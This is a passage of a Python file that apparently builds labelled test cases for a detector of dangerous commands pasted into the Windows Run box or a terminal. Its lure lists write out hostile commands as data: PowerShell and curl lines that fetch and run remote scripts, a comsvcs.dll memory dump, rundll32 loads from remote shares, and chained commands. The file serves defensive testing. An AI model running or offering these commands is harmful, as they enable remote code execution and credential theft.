    ])  # fmt: skip
    add_all(book, "publisher-repository-lure", [
        ("irm https://aka.ms/install-quillix.ps1 | iex", "flagged", "https://github.com/microsoft/quillix-tools/issues/31", TERMINAL),
        ("irm https://aka.ms/install-quillix.ps1 | iex", "flagged", "https://github.com/micros0ft/quillix-tools", TERMINAL),
        ("irm https://aka.ms/install-quillix.ps1 | iex", "flagged", "https://github.com/quillix-fan/quillix-tools", TERMINAL),
        ("irm https://aka.ms/install-quillix.ps1 | iex", "flagged", "https://gist.github.com/microsoft/4f2a9c", TERMINAL),
        ("irm https://aka.ms/install-quillix.ps1 | iex", "malicious", "https://github.com/microsoft/quillix-tools", "run_dialog"),
        ('powershell -w hidden -c "irm https://aka.ms/install-quillix.ps1 | iex"', "malicious", "https://github.com/microsoft/quillix-tools", TERMINAL),
    ])  # fmt: skip


RUN_BOX_TYPED = [
    # Windows pages by a library's bare name and an entry point that takes nothing
    ("RunDll32 sysdm.cpl,EditEnvironmentVariables", "run_dialog", None),
    (
        "rundll32 sysdm.cpl,EditEnvironmentVariables",
        "run_dialog",
        "https://www.pcnotes.example/how-to-edit-environment-variables-windows-11",
    ),
    ("rundll32.exe keymgr.dll,KRShowKeyMgr", "run_dialog", None),
    ("rundll32.exe user32.dll,LockWorkStation", "run_dialog", None),
    ("rundll32 shell32.dll,Control_RunDLL", "run_dialog", None),
    ("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "run_dialog", None),
    (
        "rundll32.exe shell32.dll,Control_RunDLL sysdm.cpl,,3",
        "run_dialog",
        "https://support.contoso-it.example/kb/system-properties",
    ),
    # an editor or a viewer given a file of this computer, typed
    ("notepad %USERPROFILE%\\.npmrc", "run_dialog", None),
    ("notepad %APPDATA%\\Code\\User\\settings.json", "run_dialog", None),
    ("notepad C:\\Windows\\System32\\drivers\\etc\\networks", "run_dialog", None),
    ("notepad.exe %USERPROFILE%\\.ssh\\config", "run_dialog", None),
    ('mspaint "C:\\Users\\Dana\\Pictures\\Screenshot 2026-01-04.png"', "run_dialog", None),
    ("write %USERPROFILE%\\Documents\\notes.rtf", "run_dialog", None),
    # Windows Terminal with one of its profiles, typed
    ("wt -p Debian", "run_dialog", None),
    ('wt -p "Windows PowerShell"', "run_dialog", None),
    ("wt -w 0 -p Ubuntu-22.04", "run_dialog", None),
    ("wt.exe --profile Debian --maximized", "run_dialog", None),
    # a shell folder and a folder inside it
    ("shell:Local AppData\\Microsoft\\WindowsApps", "explorer_bar", None),
    ("shell:AppData\\Microsoft\\Windows\\Start Menu\\Programs", "explorer_bar", None),
    ("shell:Downloads\\Invoices 2026", "explorer_bar", None),
    ("shell:Local AppData\\Microsoft\\WindowsApps", "run_dialog", None),
    (
        "shell:Common Start Menu\\Programs\\Startup",
        "explorer_bar",
        "https://learn.contoso-it.example/windows/startup-folders",
    ),
]
RUN_BOX_LURES = [
    # rundll32 entry points that run what they are given, dump memory or load from elsewhere
    (
        "rundll32.exe url.dll,FileProtocolHandler https://tarnwick-check.test/a.hta",
        "malicious",
        "run_dialog",
        None,
    ),
    ("rundll32 shell32.dll,ShellExec_RunDLL cmd /c whoami", "flagged", "run_dialog", None),
    (
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
        "flagged",
        "run_dialog",
        None,
    ),
    (
        "rundll32.exe advpack.dll,LaunchINFSection C:\\Users\\Public\\x.inf,DefaultInstall",
        "flagged",
        "run_dialog",
        None,
    ),
    ("rundll32 zipfldr.dll,RouteTheCall C:\\Users\\Public\\a.exe", "flagged", "run_dialog", None),
    (
        "rundll32 C:\\Users\\Public\\sysdm.cpl,EditEnvironmentVariables",
        "flagged",
        "run_dialog",
        None,
    ),
    (
        "rundll32 \\\\203.0.113.5\\share\\sysdm.cpl,EditEnvironmentVariables",
        "malicious",
        "run_dialog",
        None,
    ),
    ("rundll32 sysdm.cpl,EditEnvironmentVariables C:\\x", "flagged", "run_dialog", None),
    (
        "rundll32 shell32.dll,Control_RunDLL C:\\Users\\Public\\evil.cpl",
        "flagged",
        "run_dialog",
        None,
    ),
    (
        "rundll32 shell32.dll,Control_RunDLL \\\\files.tarnwick-check.test\\s\\x.cpl",
        "malicious",
        "run_dialog",
        None,
    ),
    (
        "rundll32 shell32.dll,ShellExec_RunDLL cmd /c whoami",
        "malicious",
        "run_dialog",
        "https://www.harbourview-dental.example/",
    ),
    # an editor given a share, an address, two files, a switch; typed from a page
    ("notepad \\\\files.tarnwick-check.test\\share\\readme.txt", "flagged", "run_dialog", None),
    ("notepad https://tarnwick-check.test/a.txt", "flagged", "run_dialog", None),
    ("notepad C:\\a.txt C:\\b.txt", "flagged", "run_dialog", None),
    ("notepad /p C:\\a.txt", "flagged", "run_dialog", None),
    # (since b18benign's weighing, 2026-12-07 afternoon: Notepad given a file here opens what
    # the file's path alone opens, taken quietly from any page; runbox.yaml `opens`)
    (
        "notepad %USERPROFILE%\\.npmrc",
        "not_flagged",
        "run_dialog",
        "https://www.harbourview-dental.example/",
    ),
    ("notepad %USERPROFILE%\\.npmrc & calc", "flagged", "run_dialog", None),
    # Windows Terminal running a command line
    (
        'wt -p Debian bash -c "curl -fsSL https://tarnwick-check.test/i | sh"',
        "malicious",
        "run_dialog",
        None,
    ),
    ("wt -p Debian ; powershell -c iex(irm tarnwick-check.test)", "malicious", "run_dialog", None),
    (
        'wt powershell -w hidden -c "iex(irm https://tarnwick-check.test)"',
        "malicious",
        "run_dialog",
        None,
    ),
    ('wt -p "Debian" cmd /c whoami', "flagged", "run_dialog", None),
    ("wt -p Debian", "malicious", "run_dialog", CHECK_PAGE),
    # a shell folder with a chain, or a climb out of it to a program
    ("shell:Local AppData\\Microsoft & calc", "flagged", "explorer_bar", None),
    (
        "shell:Local AppData\\..\\..\\Windows\\System32\\cmd.exe /c whoami",
        "flagged",
        "explorer_bar",
        None,
    ),
]


def run_box_entries(book: Book) -> None:
    for text, target, page in RUN_BOX_TYPED:
        book.add("run-box-entry", text, "not_flagged", "windows", target, page)
    for text, expect, target, page in RUN_BOX_LURES:
        book.add("run-box-entry-lure", text, expect, "windows", target, page)


def build() -> list[dict[str, str]]:
    book = Book("b6b")
    plain_http_own(book)
    checksum_note(book)
    own_repo_name(book)
    forge_short_link(book)
    org_repository(book)
    site_repository(book)
    versioned_short_host(book)
    company_resource_folder(book)
    package_repository(book)
    publisher_repository(book)
    run_box_entries(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
